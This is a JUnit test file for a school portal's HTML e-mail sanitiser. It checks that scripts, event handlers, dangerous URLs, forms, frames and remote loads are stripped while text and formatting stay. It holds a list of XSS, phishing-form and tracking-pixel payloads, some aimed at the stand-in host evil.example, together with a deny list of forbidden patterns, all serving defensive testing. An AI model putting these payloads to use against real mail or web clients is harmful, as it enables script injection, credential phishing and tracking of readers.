package fr.preau.mail.html;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.List;
import java.util.Locale;
import java.util.Map;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Hostile HTML through the sanitiser: nothing that runs, navigates, submits or loads remotely survives. */
class MailHtmlSanitizerTest {
    private static final List<String> FORBIDDEN = List.of("<script", "javascript:", "vbscript:", "data:", "onerror",
            "onload", "onclick", "onmouseover", "onfocus", "<svg", "<math", "<iframe", "<object", "<embed", "<form",
            "<input", "<button", "<base", "<meta", "<link", "<style", "expression(", "@import", "url(", "<frame",
            "<applet", "srcdoc", "formaction", "xlink", "<textarea", "<select", "<video", "<audio", "<source",
            "behavior:", "-moz-binding", "<template", "<portal", "<noscript", "http-equiv", "evil.example");

    private static String clean(String html) {
        return MailHtmlSanitizer.sanitize(html, false, cid -> "/mail/piece-jointe?partie=" + cid).html();
    }

    private static void assertHarmless(String output) {
        String lower = output.toLowerCase(Locale.ROOT);
        for (String bad : FORBIDDEN) {
            assertFalse(lower.contains(bad), () -> "'" + bad + "' survived in: " + output);
        }
    }

    static List<String> hostile() {
        return List.of(
            "<script>document.title='pwned'</script><p>Bonjour</p>",
            "<SCRIPT SRC=https://evil.example/x.js></SCRIPT><p>Bonjour</p>",
            "<p>Bonjour<scr<script>ipt>alert(1)</scr</script>ipt></p>",
            "<img src=x onerror=\"document.title='pwned'\"><p>Bonjour</p>",
            "<p onclick=\"alert(1)\" onmouseover=alert(1)>Bonjour</p>",
            "<body onload=alert(1)><p>Bonjour</p></body>",
            "<a href=\"javascript:alert(1)\">Bonjour</a>",
            "<a href=\"JaVaScRiPt:alert(1)\">Bonjour</a>",
            "<a href=\"java&#x09;script:alert(1)\">Bonjour</a>",
            "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">Bonjour</a>",
            "<a href=\"vbscript:msgbox(1)\">Bonjour</a>",
            "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">Bonjour</a>",
            "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\"><p>Bonjour</p>",
            "<svg onload=alert(1)><script>alert(1)</script></svg><p>Bonjour</p>",
            "<svg><a xlink:href=\"javascript:alert(1)\"><text>Bonjour</text></a></svg>",
            "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg><p>Bonjour</p>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"
                + "<p>Bonjour</p>",
            "<math href=\"javascript:alert(1)\">Bonjour</math>",
            "<p style=\"width: expression(alert(1))\">Bonjour</p>",
            "<p style=\"background:url(https://evil.example/track.png)\">Bonjour</p>",
            "<p style=\"behavior: url(x.htc); -moz-binding: url(https://evil.example/x.xml#x)\">Bonjour</p>",
            "<style>@import 'https://evil.example/x.css'; p { color: red }</style><p>Bonjour</p>",
            "<p style=\"@import 'https://evil.example/x.css'\">Bonjour</p>",
            "<link rel=stylesheet href=https://evil.example/x.css><p>Bonjour</p>",
            "<base href=\"https://evil.example/\"><a href=\"x\">Bonjour</a>",
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"><p>Bonjour</p>",
            "<form action=\"https://evil.example/\"><input name=password><button>Valider</button></form><p>Bonjour</p>",
            "<button formaction=\"javascript:alert(1)\">Bonjour</button>",
            "<iframe src=\"https://evil.example/\"></iframe><iframe srcdoc=\"<script>alert(1)</script>\"></iframe>"
                + "<p>Bonjour</p>",
            "<object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/x.swf\">"
                + "<p>Bonjour</p>",
            "<applet code=x></applet><frameset><frame src=https://evil.example/></frameset><p>Bonjour</p>",
            "<video poster=https://evil.example/p.png><source src=https://evil.example/v.mp4></video><p>Bonjour</p>",
            "<textarea>Bonjour</textarea><select><option>x</option></select>",
            "<template><script>alert(1)</script></template>"
                + "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript><p>Bonjour</p>",
            "<img src=\"https://evil.example/pixel.gif\" width=1 height=1><p>Bonjour</p>",
            "<img srcset=\"https://evil.example/a.png 1x\"><p>Bonjour</p>",
            "<table background=\"https://evil.example/bg.png\"><tr><td>Bonjour</td></tr></table>",
            "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999\">Bonjour</div>",
            "<!--[if gte mso 9]><script>alert(1)</script><![endif]--><p>Bonjour</p>",
            "<p>Bonjour</p><![CDATA[<script>alert(1)</script>]]>",
            "<a href=\"https://ok.example/\" onclick=\"alert(1)\" target=\"_top\">Bonjour</a>"
                .replace("ok.example", "evil.example").replace("https://evil.example/", "https://www.education.gouv.fr/"));
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void hostileHtmlLosesEverythingActiveAndKeepsTheText(String hostile) {
        String output = clean(hostile);
        assertHarmless(output);
        assertTrue(output.contains("Bonjour") || output.contains("Valider") || hostile.contains("<math href"),
                () -> "the readable text is kept: " + output);
    }

    @Test
    void fixedPositioningCannotCoverThePortal() {
        String output = clean("<div style=\"position:fixed;top:0;z-index:9999\">Bonjour</div>");
        assertFalse(output.contains("position"), output);
        assertFalse(output.contains("z-index"), output);
    }

    @Test
    void linksOpenInANewTabWithoutOpenerOrReferrerAndShowTheirRealTarget() {
        String output = clean("<a href=\"https://phishing.example/login\" title=\"https://www.ac-preau.fr\" "
                + "target=\"_self\">https://www.ac-preau.fr</a>");
        assertTrue(output.contains("target=\"_blank\""), output);
        assertTrue(output.contains("rel=\"noopener noreferrer\""), output);
        assertTrue(output.contains("title=\"https://phishing.example/login\""), output);
        assertFalse(output.contains("title=\"https://www.ac-preau.fr\""), output);
        String mail = clean("<a href=\"mailto:marie.dupont@ac-preau.fr\">Marie</a>");
        assertTrue(mail.contains("title=\"marie.dupont&#64;ac-preau.fr\""), mail);
        assertFalse(clean("<a href=\"cid:part\">Bonjour</a>").contains("href"), "links only to the web or to mail");
    }

    @Test
    void remoteImagesAreBlockedAndCountedUntilAllowed() {
        String html = "<p>Photo</p><img src=\"https://images.example/photo.jpg\" alt=\"La classe\">"
                + "<img src=\"http://images.example/logo.png\">";
        MailHtmlSanitizer.Result blocked = MailHtmlSanitizer.sanitize(html, false, cid -> null);
        assertEquals(2, blocked.blockedImages());
        assertFalse(blocked.html().contains("images.example"), blocked.html());
        assertTrue(blocked.html().contains("La classe"), "the alternative text stays: " + blocked.html());

        MailHtmlSanitizer.Result allowed = MailHtmlSanitizer.sanitize(html, true, cid -> null);
        assertEquals(0, allowed.blockedImages());
        assertTrue(allowed.html().contains("src=\"https://images.example/photo.jpg\""), allowed.html());
        assertTrue(allowed.html().contains("src=\"http://images.example/logo.png\""), allowed.html());
    }

    @Test
    void inlineImagesPointToThePortal() {
        Map<String, String> parts = Map.of("logo@college", "/mail/piece-jointe?partie=r.1");
        MailHtmlSanitizer.Result result = MailHtmlSanitizer.sanitize(
                "<img src=\"cid:logo@college\" alt=\"Logo\"><img src=\"cid:inconnu\" alt=\"Absent\">", false,
                parts::get);
        assertTrue(result.html().contains("src=\"/mail/piece-jointe?partie&#61;r.1\"")
                || result.html().contains("src=\"/mail/piece-jointe?partie=r.1\""), result.html());
        assertTrue(result.html().contains("Absent"), result.html());
        assertEquals(0, result.blockedImages());
    }

    @Test
    void ordinaryMailFormattingIsKept() {
        String output = clean("<table width=\"600\" cellpadding=\"4\"><tr><td bgcolor=\"#eeeeee\" align=\"center\">"
                + "<font color=\"red\" face=\"Arial\">Conseil</font></td></tr></table>"
                + "<p style=\"color: #123456; font-weight: bold; text-align: center\">Bonjour <b>à tous</b></p>"
                + "<ul><li>Un</li></ul><blockquote>Cité</blockquote>");
        assertTrue(output.contains("<table width=\"600\" cellpadding=\"4\">"), output);
        assertTrue(output.contains("bgcolor=\"#eeeeee\""), output);
        assertTrue(output.contains("<font color=\"red\" face=\"Arial\">"), output);
        assertTrue(output.contains("color:#123456"), output);
        assertTrue(output.contains("<b>à tous</b>") || output.contains("<b>&agrave; tous</b>")
                || output.contains("<b>&#224; tous</b>"), output);
        assertTrue(output.contains("<blockquote>"), output);
    }

    @Test
    void theTitleOfAnHtmlDocumentIsNotShownAsText() {
        String output = clean("<html><head><title>Lettre d'information</title></head><body><p>Bonjour</p></body>"
                + "</html>");
        assertFalse(output.contains("Lettre"), output);
        assertTrue(output.contains("Bonjour"), output);
    }
}
